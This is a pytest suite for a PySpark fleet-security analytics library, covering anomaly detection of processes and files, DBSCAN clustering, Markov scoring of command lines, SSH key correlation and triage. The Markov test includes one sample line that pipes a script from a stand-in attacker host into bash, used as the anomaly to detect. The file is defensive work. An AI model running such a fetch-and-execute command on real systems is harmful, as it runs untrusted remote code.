import math

from conftest import rows
from pyspark.sql import functions as F

from harrier.operators import blocks, correlate, fleet, markov, triage
from harrier.sources import readers


def fleet_rows(spark):
    data, k = [], 0
    for host in ("n1", "n2", "n3", "n4", "n5"):
        data.append((host, 1, 0, "systemd", 0, "/sbin/init", "", k := k + 1))
        data += [(host, 100 + i, 1, "nginx", 33, "/usr/sbin/nginx", "-g daemon", k := k + 1) for i in range(20)]
    data += [("miner", 1, 0, "systemd", 0, "/sbin/init", "", k + 1), ("miner", 7, 1, "xmrig", 0, "/tmp/.x/xmrig", "-o pool", k + 2), ("miner", 8, 99, "sh", 5, "/bin/sh", "", k + 3)]
    return spark.createDataFrame(data, "machine_id string, pid long, ppid long, name string, uid long, path string, args string, ord long")


def test_the_odd_host_is_found(spark):
    profile = fleet.process_profile(fleet_rows(spark))
    assert profile.where("name = 'nginx' AND parent_name = 'systemd'").count() == 5
    assert profile.where("parent_name = '[unknown:99]'").count() == 1
    out = fleet.process_outliers(profile).collect()
    assert [(r.machine_id, r.severity, r.cluster, r.distance) for r in out] == [("miner", "high", None, 1.5)]
    assert any("root_no_whitelist,suspicious_path" in x for x in out[0].reasons)


def test_dbscan_against_brute_force(spark):
    import random

    rng = random.Random(3)
    data = [(f"h{i:02d}", f"s{j}", rng.randint(1, 4)) for i in range(40) for j in rng.sample(range(12), 4)]
    w = fleet.tf_idf(spark.createDataFrame(data, "h string, s string, n long"), "h", "s")
    vectors = {}
    for h, s, x in rows(w):
        vectors.setdefault(h, {})[s] = x
    near = lambda a, b: math.sqrt(max(0, sum((vectors[a].get(s, 0) - vectors[b].get(s, 0)) ** 2 for s in {*vectors[a], *vectors[b]}))) <= 0.7
    hosts = sorted(vectors)
    around = {a: [b for b in hosts if near(a, b)] for a in hosts}
    label = {h: h for h in hosts if len(around[h]) >= 2}
    for _ in hosts:
        label = {h: min(label[b] for b in around[h] if b in label) for h in label}
    assert dict(rows(fleet.dbscan(w, "h", "s", 0.7))) == {h: label.get(h) for h in hosts}


def test_equal_counts_give_equal_weights(spark):
    """Whatever order the rows come in: copies of a host are one place for dbscan, which compares places pair by pair."""
    import random

    rng = random.Random(5)
    hosts = [[(f"s{j:02d}", rng.randint(1, 9)) for j in rng.sample(range(60), 30)] for _ in range(20)]
    data = [(f"h{i:02d}-{k}", s, n) for i, host in enumerate(hosts) for k in range(8) for s, n in rng.sample(host, len(host))]
    w = fleet.tf_idf(spark.createDataFrame(data, "h string, s string, n long").repartition(16), "h", "s")
    vectors = w.groupBy("h").agg(F.array_sort(F.collect_list(F.struct("s", "w"))).alias("v"))
    assert vectors.select("v").distinct().count() == len(hosts)


def test_metadata_off_the_fleet(spark):
    data = [(f"h{i}", "/etc/passwd", "2024-01-0%d 00:00:00" % (1 if i < 5 else 9), "root" if i else "bob") for i in range(6)]
    f = spark.createDataFrame(data, "h string, p string, m string, o string").selectExpr("h", "p", "to_timestamp(m) m", "o")
    assert [(r[0], r[-1]) for r in rows(fleet.median_outliers(f, "h", "p", "m"))] == [("h5", 192)]
    assert rows(fleet.majority_outliers(f, "h", "p", "o").select("h", "majority")) == [("h0", "root")]


def test_files(spark):
    data = [(f"h{i}", p, 5, "bob", "-rw-r--r--", "2024-01-01 00:00:00", "2023-01-01 00:00:00", 10, i) for i in range(4) for p in ("/usr/share/a", "/usr/share/b")]
    data.append(("h3", "/tmp/dropper", 0, "root", "-rwxrwxrwx", "2024-01-01 00:00:00", "2023-12-31 23:00:00", 10, 99))
    f = spark.createDataFrame(data, "machine_id string, path string, uid long, owner string, permissions string, timestamp string, mtime string, size long, ord long")
    f = f.withColumns({c: f[c].cast("timestamp") for c in ("timestamp", "mtime")})
    out = fleet.file_outliers(f).collect()
    assert [(r.machine_id, r.severity) for r in out] == [("h3", "high")] and "world_writable" in out[0].reasons[0]


def test_markov(spark):
    train = spark.createDataFrame([("~~~~".join(f"systemctl status nginx-{i}" for i in range(80)),)], "line string")
    model = markov.train(markov.char_grams(train, "line", 3, False, False))
    lines = spark.createDataFrame([(1, "systemctl status nginx-7"), (2, "curl http://evil.example/x.sh | bash"), (3, "")], "id long, line string")
    got = dict(rows(markov.score(lines, markov.char_grams(lines, "line", 3, True, False, "id"), model, "id").select("id", "score")))
    assert got[1] > got[2] and abs(got[3] - math.log(markov.prior(model).first()[0])) < 1e-12
    assert markov.simulate(model, 3, 5, seed=1) == markov.simulate(model, 3, 5, seed=1)


def test_correlators(spark):
    keys = spark.createDataFrame([("f", "a", "u"), ("f", "b", "v"), ("g", "a", "u"), ("", "b", "w"), (None, "c", "w")], "fingerprint string, host_id string, username string")
    assert [(r.fingerprint, r.hosts) for r in correlate.reused_keys(keys).collect()] == [("f", ["a", "b"])]
    old = spark.createDataFrame([("a", 1), ("b", 2)], "k string, v int")
    new = spark.createDataFrame([("b", 3), ("c", 4)], "k string, v int")
    assert rows(correlate.drift(old, new, ["k"], "v").select("k", "change")) == [("a", "removed"), ("b", "changed"), ("c", "added")]
    dirs = spark.createDataFrame([("/tmp/.hid", 2, False), ("/d", 3, True)], "path string, nlink int, fs_counts boolean")
    assert rows(correlate.directory_anomalies(dirs)) == [("/d", "link_count_mismatch"), ("/tmp/.hid", "dotdir_stash")]
    hosts = spark.createDataFrame([("h", ["Prod"], {"role": "db"})], "host_id string, tags array<string>, labels map<string,string>")
    zones = spark.createDataFrame([("z", ["PROD"]), ("y", ["web"])], "zone string, selectors array<string>")
    assert rows(correlate.zone_members(hosts, zones)) == [("z", "h")]


def test_triage(spark):
    f = spark.createDataFrame([(1, "h", "c", "new"), (2, "h", "c", "true_positive"), (3, "h", "d", "new")], "id int, host_id string, check_id string, status string")
    assert [r[3] for r in rows(triage.set_status(f, 1, "false_positive"))] == ["false_positive", "false_positive", "new"]
    muted = triage.set_status(f, 1, "false_positive")
    assert [r[3] for r in rows(triage.set_status(muted, 1, "new"))] == ["new", "new", "new"]
    g = spark.createDataFrame([("h", "d", "g1", "Rare process: x", None, 0.9), ("h", "d", "g1", "name=x path=/a", None, 0.5)], "host_id string, detector string, grp string, reason string, verdict string, score double")
    history = spark.createDataFrame([("d", "Rare process: x", "false_positive", 1), ("d", "Rare process: x", "unset", 2)], "detector string, reason string, verdict string, at int")
    done = triage.apply_precedents(g, triage.newest_precedents(history), spark.createDataFrame([], "detector string, reason string"))
    assert {r.verdict for r in done.collect()} == {"false_positive"}
    assert rows(triage.effective_score(done)) == [("h", 0.0)]


def test_sources(spark, tmp_path):
    (tmp_path / "web-1.jsonl").write_text('# note\n\n{"pid": 1, "ppid": 0, "process_name": "init"}\n{"file_path": "/a", "mode": "0644"}\n{broken\n')
    got = readers.read_json_lines(spark, str(tmp_path / "web-1.jsonl"), "process").collect()
    assert [(r.machine_id, r.pid, r.name) for r in got] == [("web-1", 1, "init")]
    assert [r.path for r in readers.read_json_lines(spark, str(tmp_path / "web-1.jsonl"), "file").collect()] == ["/a"]
    (tmp_path / "p.csv").write_text("machine_id,pid,name\na,1,x\n,2,y\nb,z,w\n")
    assert [(r.machine_id, r.pid) for r in readers.read_csv(spark, str(tmp_path / "p.csv"), "process").orderBy("machine_id").collect()] == [("a", 1), ("b", None)]
    lines = spark.createDataFrame([("root:$6$abc:1",), ("u:!:1",), ("e::1",)], "line string")
    assert [(r.algorithm, r.locked, r.empty_password) for r in readers.shadow(lines).collect()] == [("sha512crypt", False, False), ("!", True, False), ("empty", False, True)]


def test_dbscan_of_copies_and_zero_lengths(spark):
    """Copies count as hosts of their own; the smallest of them names the cluster. Hosts of zero length are one place."""
    data = [(f"c{i}", s, x) for i in range(3) for s, x in (("p", 0.6), ("q", 0.8))]
    data += [("n", "p", 0.6), ("n", "q", 0.7), ("n", "r", 0.1), ("far", "q", 1.0), ("lone", "z", 1.0)]
    data += [("z1", "p", 0.0), ("z2", "q", -0.0), ("z2", "r", 0.0)]
    w = spark.createDataFrame(data, "h string, s string, w double")
    want = {"c0": "c0", "c1": "c0", "c2": "c0", "n": "c0", "far": None, "lone": None, "z1": "z1", "z2": "z1"}
    assert dict(rows(fleet.dbscan(w, "h", "s", 0.35))) == want
    assert dict(rows(fleet.dbscan(w, "h", "s", 0.35, least=4))) == want | {"z1": None, "z2": None}
    assert rows(fleet.dbscan(w.limit(0), "h", "s")) == []


def plain_dbscan(vectors, eps, least):
    hosts = sorted(vectors)
    near = lambda a, b: a == b or (vectors[a].keys() & vectors[b].keys() and sum((vectors[a].get(s, 0) - vectors[b].get(s, 0)) ** 2 for s in {*vectors[a], *vectors[b]}) <= eps * eps)
    around = {a: [b for b in hosts if near(a, b)] for a in hosts}
    label = {h: h for h in hosts if len(around[h]) >= least}
    while True:
        new = {h: min(label[b] for b in around[h] if b in label) for h in label}
        if new == label:
            return {h: label.get(h) or min((label[b] for b in around[h] if b in label), default=None) for h in hosts}
        label = new


def test_dbscan_of_dense_fleets(spark, monkeypatch):
    """Balls of nearly equal hosts, chains of balls that touch by their rims, and loose hosts, with few centres a round."""
    import random

    monkeypatch.setattr(fleet, "CENTRES", 5)
    rng = random.Random(4)
    vectors = {}
    for i in range(150):
        turn = rng.choice([0.0, 0.1, 0.16, 0.35, 0.42, 0.8, 1.2]) + rng.uniform(-0.03, 0.03)
        v = {"common": math.cos(turn) * 0.9, f"group{rng.randint(0, 1)}": math.sin(turn) * 0.9, f"own{i % 90}": rng.choice([0.0, 0.02, 0.2])}
        vectors[f"h{i:03d}"] = {s: x for s, x in v.items() if x}
    df = spark.createDataFrame([(h, s, x) for h, v in vectors.items() for s, x in v.items()], "h string, s string, w double")
    for eps, least in ((0.3, 2), (0.15, 4), (0.08, 3)):
        assert dict(rows(fleet.dbscan(df, "h", "s", eps, least))) == plain_dbscan(vectors, eps, least)


def test_pairs_of_a_uniform_fleet(spark, monkeypatch):
    """Hosts with 20 signatures in common and one of their own: what is compared grows with the hosts, not with their square."""
    compared = []
    real = fleet._within
    monkeypatch.setattr(fleet, "_within", lambda pairs, *a: (compared.append(pairs.count()), real(pairs, *a))[1])
    for n in (1000, 2000):
        data = spark.range(n).selectExpr("id h", "explode(sequence(0, 20)) k").selectExpr("h", "if(k = 20, concat('own', h), concat('s', k)) s", "if(k = 20, 0.05, 0.22) w")
        found = fleet.dbscan(data, "h", "s", 0.35)
        assert rows(found.select("cluster").distinct()) == [(0,)] and found.count() == n
    assert compared == [0, 0]


def different_hosts(rng, n):
    """Hosts with many signatures in common, each in a mix of its own, some close to another one."""
    mixes = [[rng.random() ** 3 for _ in range(12)] for _ in range(n // 2)]
    hosts = {}
    for i in range(n):
        v = {f"s{j:02d}": x + rng.uniform(0, 0.05) for j, x in enumerate(mixes[i % len(mixes)]) if x > 0.1 or rng.random() < 0.1}
        v[f"pair{i // 3}"], v[f"own{i}"] = 0.1, 0.05
        length = math.sqrt(sum(x * x for x in v.values()))
        hosts[f"h{i:04d}"] = {s: x / length for s, x in v.items()}
    return hosts


def weights(spark, vectors):
    return spark.createDataFrame([(h, s, x) for h, v in vectors.items() for s, x in v.items()], "h string, s string, w double")


def test_different_hosts_are_compared_in_blocks(spark, monkeypatch):
    """Hosts that differ but share common signatures: what is joined grows with the blocks, not with the pairs of hosts."""
    import random

    compared = []
    real = fleet._within
    monkeypatch.setattr(fleet, "_within", lambda pairs, *a: (compared.append(pairs.count()), real(pairs, *a))[1])
    for n in (150, 300):
        vectors = different_hosts(random.Random(n), n)
        assert dict(rows(fleet.dbscan(weights(spark, vectors), "h", "s", 0.2))) == plain_dbscan(vectors, 0.2, 2)
    assert max(compared) <= 3  # those in balls are one block, the others one


def test_dbscan_by_blocks_and_by_pairs(spark, monkeypatch):
    """Few hosts meet at rare signatures and are joined, many at common ones; blocks and tiles of a few hosts, whatever a core host takes."""
    import random

    for name, k in (("FEW", 0), ("CROWD", 4), ("BLOCK", 300)):
        monkeypatch.setattr(fleet, name, k)
    monkeypatch.setattr(blocks, "TILE", 16)
    vectors = different_hosts(random.Random(8), 160) | {f"short{i}": {f"s{i % 3:02d}": 0.01 + i / 1000, f"few{i // 2}": 0.01} for i in range(9)}
    vectors |= {f"copy-{h}": v for h, v in list(vectors.items())[::20]}
    for eps, least in ((0.2, 2), (0.3, 4), (0.45, 9)):
        assert dict(rows(fleet.dbscan(weights(spark, vectors), "h", "s", eps, least))) == plain_dbscan(vectors, eps, least)


def test_links_of_blocks(monkeypatch):
    """Frequent and single signatures, short vectors that share nothing, opposite weights; within one block and between two."""
    import numpy as np
    import pyarrow as pa

    monkeypatch.setattr(blocks, "TILE", 7)
    monkeypatch.setattr(blocks, "PRODUCTS", 5)
    rng = np.random.default_rng(2)
    data = [{int(s): float(w) for s, w in zip(rng.choice(400 if i % 2 else 6, 5, replace=False), rng.normal(0, 0.4 if i % 3 else 0.05, 5))} for i in range(60)]
    lists = pa.chunked_array([pa.array([[{"s": s, "w": w} for s, w in v.items()] for v in data], pa.list_(pa.struct([("s", pa.int64()), ("w", pa.float64())])))])
    q = np.array([sum(w * w for w in v.values()) for v in data])
    near = lambda a, b: a.keys() & b.keys() and sum((a.get(s, 0) - b.get(s, 0)) ** 2 for s in a.keys() | b.keys()) <= 0.3
    for n in (60, 25):
        found = sorted((int(a), int(b)) for x, y in blocks.links(lists, q, n, 0.3) for a, b in zip(x, y))
        assert found == [(a, b) for a in range(n) for b in range(a + 1 if n == 60 else n, 60) if near(data[a], data[b])]
        assert len(found) > 20


def test_files_are_parted_once_by_path(spark):
    """Groups of host and path, and windows over a path, run in the partitions of one shuffle, which aren't merged."""
    from harrier.plans import registry

    found = registry.QUERIES["fleet_boolean_minority"](spark, "/root/testdata/sf0.001")
    found.collect()
    plan = found._jdf.queryExecution().toString().split("== Physical Plan ==")[1].split("== Initial Plan ==")[0]
    assert plan.count("Exchange hashpartitioning") == 1 and "REPARTITION_BY_NUM" in plan


def test_key_graph_drops_repeats_before_naming(spark):
    p = spark.createDataFrame([(1, 5, "u", "ssh-ed25519", 256)] * 3 + [(1, 6, "u", "ssh-ed25519", 256), (1, None, None, None, None), (2, 5, "v", "ssh-rsa", 1024), (3, 5, "w", "ssh-ed25519", 256), (None, 5, "w", "ssh-rsa", 1024)], "fingerprint long, host_id long, username string, key_type string, bits int")
    edges = correlate.key_graph(p, top=1)[1]
    want = [("key:1", None, "of"), ("key:1", None, "on"), ("key:1", "host:5", "on"), ("key:1", "host:6", "on"), ("key:1", "user:u", "of"), ("key:2", "host:5", "on"), ("key:2", "user:v", "of")]
    assert rows(edges) == sorted(want, key=lambda r: (r[0], r[1] or "", r[2]))
    assert "Aggregate [source" not in edges._jdf.queryExecution().optimizedPlan().toString()
